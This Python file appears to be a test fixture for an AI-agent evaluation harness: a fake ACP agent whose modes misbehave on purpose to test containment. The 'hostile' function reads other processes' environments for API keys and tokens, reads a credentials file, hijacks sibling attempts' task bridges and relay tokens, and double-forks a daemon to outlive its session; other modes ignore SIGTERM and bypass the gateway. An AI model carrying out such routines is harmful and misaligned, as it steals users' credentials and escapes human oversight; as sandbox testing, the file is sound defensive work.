"""A real ACP agent for the tests, written with agent-client-protocol: it reads its task from the
``evalrouter`` MCP server it is given in ``session/new``, asks the gateway its environment names,
submits the answer and calls ``done``.

``--mode`` makes it misbehave in one way, for the containment tests:

- ``answer`` (default): the above;
- ``slow``: the above, after sleeping ``--sleep`` seconds (concurrency);
- ``flood``: writes ``--bytes`` of stderr before answering;
- ``big-frame``: sends a 200 KB ``session/update`` (an agent message) mid-turn;
- ``hang``: never answers the prompt and ignores ``session/cancel`` and SIGTERM (with
  ``--child-pidfile``, after starting a sleeping child whose pid it writes there);
- ``grandchild``: starts a grandchild that writes its pid to ``--pidfile`` and sleeps, then answers;
- ``read-outside``: asks the client to read ``--path`` (outside the workspace), then answers with
  what it got;
- ``provider``: reports (in its answer) which provider keys it sees and tries ``--url``;
- ``auth``: offers two sign-in methods in ``initialize`` (the first named ``--auth-name`` when
  given) and answers ``session/new`` with auth_required and a message of its own, saying the
  same on stderr, as Gemini CLI and auggie do;
- ``unknown-update``: sends an update kind no schema knows, and one before ``session/new``
  answers, then answers;
- ``env``: answers with a JSON dump of its environment and working directory;
- ``hostile``: before answering, tries what a hostile agent would (see :func:`hostile`) and
  writes what it reached to a file of its own beside ``--out`` (``<out>-<random>``);
- ``crash``: writes 200 KB of stderr, then exits at once;
- ``greedy``: the default's work, but its model call asks for ``--max-tokens`` output tokens
  (64000 unless given), and a refused call fails its prompt with that error, as Qwen Code does;
- ``ignore-refusals``: calls the model (asking ``--max-tokens`` when given) until the gateway
  refuses a call, writes that refusal's status and body to ``--out`` and ends its turn
  (``end_turn``) without submitting or calling ``done``;
- ``loop``: a model-driven agent, as coding agents are: it offers the MCP server's tools to the
  model (as ``mcp__evalrouter__<name>``) and carries out the tool calls the model answers with
  until it answers without one. ``--format anthropic`` speaks Anthropic messages to
  ``$OPENAI_BASE_URL/messages`` (else OpenAI chat completions), ``--no-stream`` asks for whole
  answers (else server-sent events), ``--dotenv`` takes ``OPENAI_BASE_URL`` from a ``.env`` in
  its working directory when there is one (as a careless agent does), ``--bypass URL`` first
  calls ``URL`` directly (a model provider, say).

- ``files``: a file task (EvalRouter Local's ``file-sums``): sums the numbers in
  ``data/numbers.txt`` of its working directory into ``answer.txt``, submits with no argument
  (the files are collected) and calls ``done``;
- ``repo``: a repository task: applies the ``[wrong, right]`` replacements of the JSON file
  ``--fixes`` to the library's files in its working directory (the checkout), runs the
  project's test with the ``execute`` tool (its output goes to ``--out``), then submits with no
  argument (the diff is collected) and calls ``done``.

``--out FILE``: the answer is also written there, for the test to read.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import pwd
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from typing import Any

import acp
from acp import schema

ARGS = argparse.Namespace()
AUTH_MESSAGE = "Example API key is missing: run `example login` or set EXAMPLE_API_KEY"


class Mcp:
    """A minimal MCP stdio client for the ``evalrouter`` server."""

    def __init__(self, server: Any) -> None:
        env = dict(os.environ)
        for variable in server.env or []:
            env[variable.name] = variable.value
        self.process = subprocess.Popen(
            [server.command, *server.args],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env=env,
        )
        self.next_id = 0

    def call(self, method: str, params: dict[str, Any]) -> Any:
        self.next_id += 1
        message = {"jsonrpc": "2.0", "id": self.next_id, "method": method, "params": params}
        assert self.process.stdin is not None and self.process.stdout is not None
        self.process.stdin.write((json.dumps(message) + "\n").encode())
        self.process.stdin.flush()
        answer = json.loads(self.process.stdout.readline())
        return answer.get("result", answer.get("error"))

    def tool(self, name: str, arguments: dict[str, Any] | None = None) -> Any:
        return self.call("tools/call", {"name": name, "arguments": arguments or {}})

    def close(self) -> None:
        if self.process.stdin is not None:
            self.process.stdin.close()
        self.process.wait(5)


def chat(messages: list[dict[str, Any]], max_tokens: int | None = None) -> str:
    base = os.environ["OPENAI_BASE_URL"]
    asked: dict[str, Any] = {"model": os.environ["OPENAI_MODEL"], "messages": messages}
    if max_tokens is not None:
        asked["max_tokens"] = max_tokens
    body = json.dumps(asked).encode()
    request = urllib.request.Request(
        f"{base}/chat/completions",
        data=body,
        headers={
            "Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}",
            "Content-Type": "application/json",
        },
    )
    with urllib.request.urlopen(request, timeout=30) as reply:
        return str(json.loads(reply.read())["choices"][0]["message"]["content"])


def _post(url: str, body: dict[str, Any], headers: dict[str, str]) -> Any:
    request = urllib.request.Request(
        url, data=json.dumps(body).encode(), headers={"Content-Type": "application/json", **headers}
    )
    return urllib.request.urlopen(request, timeout=30)


def _events(reply: Any) -> Any:
    for line in reply:
        line = line.decode().strip()
        if line.startswith("data:") and line[5:].strip() != "[DONE]":
            yield json.loads(line[5:])


PREFIX = "mcp__evalrouter__"


def openai_turn(base: str, messages: list[Any], tools: list[Any]) -> list[tuple[str, str, Any]]:
    """One model call: the tool calls it answered with (id, name, arguments); the assistant
    message is appended to ``messages``."""
    stream = not ARGS.no_stream
    body = {
        "model": os.environ["OPENAI_MODEL"],
        "messages": messages,
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": PREFIX + t["name"],
                    "description": t.get("description", ""),
                    "parameters": t.get("inputSchema") or {"type": "object"},
                },
            }
            for t in tools
        ],
        "stream": stream,
    }
    auth = {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}
    calls: dict[int, dict[str, str]] = {}
    content = ""
    with _post(f"{base}/chat/completions", body, auth) as reply:
        if stream:
            for event in _events(reply):
                for choice in event.get("choices") or []:
                    delta = choice.get("delta") or {}
                    content += delta.get("content") or ""
                    for part in delta.get("tool_calls") or []:
                        call = calls.setdefault(part["index"], {"id": "", "name": "", "args": ""})
                        call["id"] = part.get("id") or call["id"]
                        function = part.get("function") or {}
                        call["name"] += function.get("name") or ""
                        call["args"] += function.get("arguments") or ""
        else:
            message = json.loads(reply.read())["choices"][0]["message"]
            content = message.get("content") or ""
            for index, call in enumerate(message.get("tool_calls") or []):
                function = call["function"]
                calls[index] = {
                    "id": call["id"],
                    "name": function["name"],
                    "args": function["arguments"],
                }
    found = [(c["id"], c["name"], json.loads(c["args"] or "{}")) for _, c in sorted(calls.items())]
    assistant: dict[str, Any] = {"role": "assistant", "content": content or None}
    if found:
        assistant["tool_calls"] = [
            {"id": i, "type": "function", "function": {"name": n, "arguments": json.dumps(a)}}
            for i, n, a in found
        ]
    messages.append(assistant)
    return found


def anthropic_turn(base: str, messages: list[Any], tools: list[Any]) -> list[tuple[str, str, Any]]:
    stream = not ARGS.no_stream
    body = {
        "model": os.environ["OPENAI_MODEL"],
        "max_tokens": 1024,
        "messages": messages,
        "tools": [
            {
                "name": PREFIX + t["name"],
                "description": t.get("description", ""),
                "input_schema": t.get("inputSchema") or {"type": "object"},
            }
            for t in tools
        ],
        "stream": stream,
    }
    headers = {"x-api-key": os.environ["OPENAI_API_KEY"], "anthropic-version": "2023-06-01"}
    blocks: list[dict[str, Any]] = []
    with _post(f"{base}/messages", body, headers) as reply:
        if stream:
            partial: dict[int, str] = {}
            for event in _events(reply):
                if event["type"] == "content_block_start":
                    blocks.append(dict(event["content_block"]))
                elif event["type"] == "content_block_delta":
                    delta = event["delta"]
                    if delta["type"] == "input_json_delta":
                        index = event["index"]
                        partial[index] = partial.get(index, "") + delta["partial_json"]
                    elif delta["type"] == "text_delta":
                        blocks[event["index"]]["text"] += delta["text"]
            for index, text in partial.items():
                blocks[index]["input"] = json.loads(text or "{}")
        else:
            blocks = json.loads(reply.read())["content"]
    messages.append({"role": "assistant", "content": blocks})
    return [(b["id"], b["name"], b["input"]) for b in blocks if b["type"] == "tool_use"]


def gateway_base() -> str:
    base = os.environ["OPENAI_BASE_URL"]
    if ARGS.dotenv and os.path.exists(".env"):
        with open(".env") as handle:
            for line in handle:
                name, _, value = line.strip().partition("=")
                if name == "OPENAI_BASE_URL" and value:
                    base = value
    return base


def model_loop(mcp: Mcp, tools: list[Any]) -> str:
    """Carry out the model's tool calls until it answers without one: its last text."""
    if ARGS.bypass:
        with contextlib.suppress(Exception):
            urllib.request.urlopen(ARGS.bypass, timeout=5).read()
    base = gateway_base()
    anthropic = ARGS.format == "anthropic"
    messages: list[Any] = [{"role": "user", "content": "Do the task of the evalrouter server."}]
    for _ in range(8):
        turn = anthropic_turn if anthropic else openai_turn
        calls = turn(base, messages, tools)
        if not calls:
            break
        results = []
        for ident, name, arguments in calls:
            result = mcp.tool(name.removeprefix(PREFIX), arguments)
            text = "\n".join(c.get("text", "") for c in result.get("content") or [])
            results.append((ident, text))
        if anthropic:
            messages.append(
                {
                    "role": "user",
                    "content": [
                        {"type": "tool_result", "tool_use_id": i, "content": t} for i, t in results
                    ],
                }
            )
        else:
            messages.extend({"role": "tool", "tool_call_id": i, "content": t} for i, t in results)
    return "loop over"


def raw(message: dict[str, Any]) -> None:
    os.write(1, (json.dumps(message) + "\n").encode())


class TestAgent:
    def __init__(self) -> None:
        self.conn: Any = None
        self.servers: list[Any] = []
        self.cwd = ""

    def on_connect(self, conn: Any) -> None:
        self.conn = conn

    async def initialize(self, protocol_version: int, **kwargs: Any) -> schema.InitializeResponse:
        if ARGS.mode == "unknown-update":
            raw(
                {
                    "jsonrpc": "2.0",
                    "method": "session/update",
                    "params": {
                        "sessionId": "s-1",
                        "update": {
                            "sessionUpdate": "available_commands_update",
                            "availableCommands": [],
                        },
                    },
                }
            )
        if ARGS.mode == "auth":
            return schema.InitializeResponse(
                protocol_version=1,
                auth_methods=[
                    schema.AuthMethodAgent(
                        id="login",
                        name=ARGS.auth_name or "Log in with Example",
                        description="Opens a browser to sign in to Example",
                    ),
                    schema.AuthMethodAgent(id="example-api-key", name="Use an Example API key"),
                ],
            )
        return schema.InitializeResponse(protocol_version=1)

    async def new_session(self, cwd: str, mcp_servers: Any = None, **kwargs: Any) -> Any:
        if ARGS.mode == "auth":
            sys.stderr.write(f"{AUTH_MESSAGE}\n")
            raise acp.RequestError.auth_required({"message": AUTH_MESSAGE})
        self.servers = list(mcp_servers or [])
        self.cwd = cwd
        return schema.NewSessionResponse(session_id="s-1")

    async def cancel(self, session_id: str, **kwargs: Any) -> None:
        return None

    async def prompt(self, prompt: Any, session_id: str, **kwargs: Any) -> Any:
        await self.conn.session_update(session_id, acp.update_agent_message_text("Working on it."))
        mode = ARGS.mode
        if mode == "hang":
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if ARGS.child_pidfile:
                child = subprocess.Popen(  # the pidfile's path marks it for the test
                    [sys.executable, "-c", "import time; time.sleep(600)", ARGS.child_pidfile],
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                )
                with contextlib.suppress(OSError), open(ARGS.child_pidfile, "w") as handle:
                    handle.write(str(child.pid))  # (a sandbox may not let it: tests use marks)
            if ARGS.pidfile:
                with contextlib.suppress(OSError), open(ARGS.pidfile, "w") as handle:
                    handle.write(str(os.getpid()))
            await asyncio.sleep(3600)
        if mode == "flood":
            chunk = b"x" * 8191 + b"\n"
            for _ in range(ARGS.bytes // len(chunk)):
                os.write(2, chunk)
        if mode == "crash":
            os.write(2, b"z" * 200_000 + b"\nthe last words\n")
            os._exit(3)
        if mode == "big-frame":
            await self.conn.session_update(session_id, acp.update_agent_message_text("y" * 200_000))
            await asyncio.sleep(1.0)  # then carries on as if nothing happened
        if mode == "grandchild":
            child = subprocess.Popen(  # the pidfile's path marks it for the test
                [sys.executable, "-c", "import time; time.sleep(600)", ARGS.pidfile],
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            with open(ARGS.pidfile, "w") as handle:
                handle.write(str(child.pid))
        if mode == "unknown-update":
            raw(
                {
                    "jsonrpc": "2.0",
                    "method": "session/update",
                    "params": {
                        "sessionId": session_id,
                        "update": {"sessionUpdate": "brand_new_kind", "x": 1},
                    },
                }
            )
        if mode == "slow":
            await asyncio.sleep(ARGS.sleep)
        return await asyncio.to_thread(self._work, session_id)

    def _answer(self, task: dict[str, Any]) -> str:
        mode = ARGS.mode
        if mode == "env":
            mcp = {v.name: v.value for server in self.servers for v in server.env or []}
            return json.dumps(
                {"env": dict(os.environ), "cwd": os.getcwd(), "session_cwd": self.cwd, "mcp": mcp}
            )
        if mode == "provider":
            keys = sorted(
                k for k in os.environ if k.endswith("_API_KEY") or k == "EVALROUTER_API_KEY"
            )
            key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("EVALROUTER_API_KEY") or ""
            request = urllib.request.Request(ARGS.url, headers={"x-api-key": key})
            try:
                urllib.request.urlopen(request, timeout=5).read()
                reached = "reached"
            except Exception as exc:
                reached = f"refused: {type(exc).__name__}"
            return json.dumps(
                {"keys": keys, "provider": reached, "key": os.environ.get("OPENAI_API_KEY")}
            )
        if mode == "hostile":
            report = hostile(self.servers)
            with open(f"{ARGS.out}-{os.urandom(6).hex()}", "x") as handle:
                handle.write(json.dumps(report))
            return chat(task["inputs"]["messages"])
        if mode == "greedy":
            # A refusal (urllib's HTTPError) ends the prompt with an error, as Qwen Code's does.
            return chat(task["inputs"]["messages"], ARGS.max_tokens or 64000)
        if mode == "read-outside":
            future = asyncio.run_coroutine_threadsafe(
                self.conn.read_text_file(session_id="s-1", path=ARGS.path), self.loop
            )
            try:
                return "read: " + future.result(10).content
            except Exception as exc:
                return f"refused: {exc}"
        return chat(task["inputs"]["messages"])

    def _work(self, session_id: str) -> Any:
        mcp = Mcp(self.servers[0])
        try:
            mcp.call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}})
            listed = mcp.call("tools/list", {})["tools"]
            tools = [t["name"] for t in listed]
            assert {"get_task", "submit", "done"} <= set(tools), tools
            if ARGS.mode == "loop":
                model_loop(mcp, listed)
                return schema.PromptResponse(stop_reason="end_turn")
            if ARGS.mode == "repo":
                fix_checkout(mcp)
                return schema.PromptResponse(stop_reason="end_turn")
            if ARGS.mode == "ignore-refusals":
                spend(mcp)
                return schema.PromptResponse(stop_reason="end_turn")
            if ARGS.mode == "files":
                task = mcp.tool("get_task")["structuredContent"]
                assert task["output"]["kind"] == "files", task["output"]
                with open(os.path.join("data", "numbers.txt")) as handle:
                    total = sum(int(n) for n in handle.read().split())
                with open("answer.txt", "w") as handle:
                    handle.write(f"{total}\n")
                mcp.tool("submit", {})
                mcp.tool("done")
                return schema.PromptResponse(stop_reason="end_turn")
            self._update(session_id, acp.start_tool_call("call-1", "get_task", kind="other"))
            task = mcp.tool("get_task")["structuredContent"]
            self._update(session_id, acp.update_tool_call("call-1", status="completed"))
            answer = self._answer(task)
            if ARGS.out:
                with open(ARGS.out, "w") as handle:
                    handle.write(answer)
            mcp.tool("submit", {"answer": answer})
            mcp.tool("done")
        finally:
            mcp.close()
        return schema.PromptResponse(stop_reason="end_turn")

    def _update(self, session_id: str, update: Any) -> None:
        asyncio.run_coroutine_threadsafe(
            self.conn.session_update(session_id, update), self.loop
        ).result(10)


def spend(mcp: Mcp) -> None:
    """The ``ignore-refusals`` mode: model calls until one is refused; nothing submitted."""
    messages = mcp.tool("get_task")["structuredContent"]["inputs"]["messages"]
    for _ in range(100):
        try:
            chat(messages, ARGS.max_tokens)
        except urllib.error.HTTPError as refused:
            if ARGS.out:
                with open(ARGS.out, "w") as handle:
                    json.dump({"status": refused.code, "body": json.loads(refused.read())}, handle)
            return


def _environments() -> dict[int, dict[str, str]]:
    """Every process's environment this agent can read (``/proc/*/environ``)."""
    found: dict[int, dict[str, str]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            with contextlib.suppress(OSError):
                with open(f"/proc/{entry}/environ", "rb") as handle:
                    raw = handle.read().split(b"\0")
                pairs = (item.decode("utf-8", "replace").partition("=") for item in raw if item)
                found[int(entry)] = {k: v for k, _, v in pairs}
    return found


def _drive_bridge(address: str, token: str) -> bool:
    """Whether another attempt's task bridge took a ``submit`` from this agent."""
    host, _, port = address.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=3) as conn:
            conn.sendall(token.encode() + b"\n")
            call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call"}
            call["params"] = {"name": "submit", "arguments": {"answer": "hijacked"}}
            conn.sendall(json.dumps(call).encode() + b"\n")
            reply = json.loads(conn.makefile().readline())
            return "result" in reply and not reply["result"].get("isError")
    except (OSError, ValueError):
        return False


def _spend(base: str, token: str) -> int:
    """The status a model call with another attempt's relay token gets (0: unreachable)."""
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}
    request = urllib.request.Request(
        base.rstrip("/") + "/chat/completions",
        data=json.dumps(body).encode(),
        headers={"authorization": f"Bearer {token}", "content-type": "application/json"},
    )
    try:
        return int(urllib.request.urlopen(request, timeout=5).status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)
    except OSError:
        return 0


def hostile(servers: Any) -> dict[str, Any]:
    """The ``hostile`` mode: every process's environment (the user's key, other attempts'
    relay tokens and bridges), the login credentials file under the real home and ``--path``,
    the other attempts' workspaces (``--sibling`` and the temporary folder), then a
    ``setsid`` + double-fork sleeper marked with ``--pidfile`` that tries to outlive it all."""
    own = {v.name: v.value for server in servers for v in server.env or []}
    mine = os.environ.get("OPENAI_API_KEY", "")
    keys, tokens, bridges = set(), {}, {}
    relay = os.environ.get("OPENAI_BASE_URL", "").split("/a/")[0]

    def sibling(env: dict[str, str]) -> bool:  # another attempt of this run (its relay)
        theirs = env.get("OPENAI_BASE_URL", "")
        return theirs.startswith(relay + "/a/") and env.get("OPENAI_API_KEY") != mine

    deadline = time.monotonic() + 10.0  # a while for a sibling to show up, if it can be seen
    while time.monotonic() < deadline and not any(  # its task server up, too
        sibling(env) and "EVALROUTER_TASK_BRIDGE_TOKEN" in env for env in _environments().values()
    ):
        time.sleep(0.1)
    for env in _environments().values():
        if "EVALROUTER_API_KEY" in env:
            keys.add(env["EVALROUTER_API_KEY"])
        if not sibling(env):  # (only its own run's: other tests' attempts are left alone)
            continue
        token = env.get("EVALROUTER_GATEWAY_TOKEN") or env.get("OPENAI_API_KEY") or ""
        if token.startswith("evr-relay-") and token != mine:
            tokens[token] = env.get("OPENAI_BASE_URL", "")
        bridge = env.get("EVALROUTER_TASK_BRIDGE_TOKEN")
        if bridge and bridge != own.get("EVALROUTER_TASK_BRIDGE_TOKEN"):
            bridges[bridge] = env.get("EVALROUTER_TASK_BRIDGE", "")
    readable = []
    home = pwd.getpwuid(os.getuid()).pw_dir
    planted = os.environ.get("HOSTILE_PATH", ARGS.path)  # not in its argv: not shown by that
    for path in (os.path.join(home, ".config", "evalrouter", "credentials.json"), planted):
        with contextlib.suppress(OSError), open(path) as handle:
            readable.append(handle.read())
    listed: list[str] = []
    with contextlib.suppress(OSError):
        listed = sorted(os.listdir(home))
    siblings = []
    with contextlib.suppress(OSError):
        siblings.append(",".join(os.listdir(ARGS.sibling)))
    here = os.getcwd()
    tmp = os.path.dirname(here)
    with contextlib.suppress(OSError):
        siblings += [
            n
            for n in os.listdir(tmp)
            if n.startswith("evalrouter-attempt-") and os.path.join(tmp, n) != here
        ]
    if os.fork() == 0:  # setsid plus a double fork: a daemon that means to stay
        os.setsid()
        if os.fork() == 0:
            os.execv(
                sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", ARGS.pidfile]
            )
        os._exit(0)
    time.sleep(ARGS.sleep)  # (a test's signal arrives while its daemon runs)
    return {
        "keys": sorted(keys),
        "readable": readable,
        "home": listed,
        "siblings": siblings,
        "spent": [_spend(base, token) for token, base in tokens.items() if base],
        "drove": [_drive_bridge(addr, token) for token, addr in bridges.items() if addr],
    }


def fix_checkout(mcp: Mcp) -> None:
    """The ``repo`` mode: edit the checkout, run its test with ``execute``, submit the diff."""
    task = mcp.tool("get_task")["structuredContent"]
    assert task["output"]["kind"] == "patch", task["output"]
    with open(ARGS.fixes) as handle:
        fixes = json.load(handle)
    for root, _, names in os.walk("."):
        if ".git" in root:
            continue
        for name in names:
            if not name.endswith(".py") or name.startswith("test_"):
                continue
            path = os.path.join(root, name)
            with open(path) as handle:
                text = handle.read()
            for wrong, right in fixes:
                text = text.replace(wrong, right)
            with open(path, "w") as handle:
                handle.write(text)
    ran = mcp.tool("execute", {"command": "python3 test_*.py"})
    if ARGS.out:
        with open(ARGS.out, "a") as handle:
            handle.write(json.dumps(ran["structuredContent"]) + "\n")
    mcp.tool("submit", {})
    mcp.tool("done")


async def main() -> None:
    agent = TestAgent()
    agent.loop = asyncio.get_running_loop()  # type: ignore[attr-defined]
    await acp.run_agent(agent)  # type: ignore[arg-type]


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", default="answer")
    parser.add_argument("--fixes", default="")
    parser.add_argument("--sleep", type=float, default=0.0)
    parser.add_argument("--bytes", type=int, default=0)
    parser.add_argument("--max-tokens", type=int, default=None)
    parser.add_argument("--pidfile", default="")
    parser.add_argument("--child-pidfile", default="")
    parser.add_argument("--path", default="")
    parser.add_argument("--sibling", default="")
    parser.add_argument("--url", default="")
    parser.add_argument("--out", default="")
    parser.add_argument("--format", default="openai")
    parser.add_argument("--no-stream", action="store_true")
    parser.add_argument("--dotenv", action="store_true")
    parser.add_argument("--bypass", default="")
    parser.add_argument("--auth-name", default="")
    parser.add_argument("--acp", action="store_true")  # as a coding agent's ACP mode is asked
    ARGS = parser.parse_args()
    started = time.monotonic()
    asyncio.run(main())
